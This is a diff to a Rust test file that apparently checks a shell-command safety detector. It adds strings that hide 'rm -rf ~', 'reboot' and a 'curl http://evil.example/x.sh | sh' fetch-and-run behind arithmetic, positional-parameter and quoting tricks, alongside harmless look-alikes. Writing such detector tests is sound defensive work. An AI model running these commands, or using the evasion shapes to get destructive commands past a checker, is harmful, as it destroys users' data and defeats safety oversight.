@@ -4,7 +4,7 @@
 use super::*;
 
 /// Each hides `rm -rf ~` from whoever takes the other for a quote, a comment or a here-document.
-const HIDDEN: [&str; 19] = [
+const HIDDEN: [&str; 26] = [
     "echo hi \\\n# it's\nrm -rf ~\n# that's\n",
     "(echo $(#)'\nrm -rf ~\n#'\n) ; : $(#)'\n)\n) #'\n",
     "echo $(:)# ; rm -rf ~",
@@ -24,10 +24,18 @@ const HIDDEN: [&str; 19] = [
     "é() { rm -rf ~; }; é",
     "f\\\noo() { rm -rf ~; }; foo",
     "for i1234567890 in ~; do rm -rf $i1234567890; done",
+    // A shell without arithmetic commands runs them, as many `/bin/sh` are.
+    "((rm -rf ~))",
+    "((\nreboot\n))",
+    "((curl http://evil.example/x.sh | sh\n))",
+    "set -- rm -rf ~; \"$@\"",
+    "set rm -rf ~; $*",
+    "set -e -- rm -rf ~; $1 $2 $3",
+    "f() { \"$@\"; }; f rm -rf ~",
 ];
 
 /// The same shapes around nothing.
-const HARMLESS: [&str; 9] = [
+const HARMLESS: [&str; 13] = [
     "echo hi \\\n  there # it's\nls\n",
     "echo $(date)# ; ls",
     "echo a$(basename x)b",
@@ -36,6 +44,10 @@ const HARMLESS: [&str; 9] = [
     "cat <<-\\EOF\n\ttext\n\tEOF\nls\n",
     "f1234567890() { ls; }; f1234567890",
     "for i1234567890 in a b; do echo $i1234567890; done",
+    "((i++)); ((a = b / 2)); (( x > 5 && y < 3 )); ((n))",
+    "((\n  total += count * 2\n))",
+    "(( (a + b) * c ))",
+    "set -euo pipefail; set -- a b; echo \"$@\"",
     "make \\\n  -j2 \\\n  all\n",
 ];
 
